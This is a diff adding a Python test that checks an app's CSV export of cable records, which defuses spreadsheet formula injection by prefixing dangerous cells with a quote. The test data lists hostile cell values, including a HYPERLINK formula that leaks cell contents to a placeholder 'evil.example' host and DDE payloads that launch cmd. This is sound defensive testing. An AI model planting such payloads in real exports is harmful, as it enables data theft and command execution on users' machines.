@@ -267,3 +267,30 @@ def test_too_many_matches_to_rank_come_newest_first(client, sample, monkeypatch)
     response = client.get("/cables/?q=nuclear")
     assert "too many to rank" in response.content.decode()
     assert _json(client, "q=nuclear")["results"][0]["reference_id"] == "07STATE5"
+
+
+HOSTILE_SUBJECTS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_defuses_spreadsheet_formulas(client, db):
+    for serial, subject in enumerate(HOSTILE_SUBJECTS):
+        cable(f"06EVIL{serial}", subject=subject, origin="=cmd|' /C calc'!A0")
+    cable("06PLAIN9", subject="TALKS ON OIL = PROGRESS", origin="Embassy Astana")
+    response = client.get("/cables.csv")
+    assert response.status_code == 200
+    text = b"".join(response.streaming_content).decode()
+    rows = {row["reference_id"]: row for row in csv.DictReader(io.StringIO(text))}
+    for serial, subject in enumerate(HOSTILE_SUBJECTS):
+        row = rows[f"06EVIL{serial}"]
+        assert row["subject"] == f"'{subject}"
+        assert row["origin"] == "'=cmd|' /C calc'!A0"
+    # Cells that do not start a formula are left as they were.
+    assert rows["06PLAIN9"]["subject"] == "TALKS ON OIL = PROGRESS"
+    assert rows["06PLAIN9"]["origin"] == "Embassy Astana"
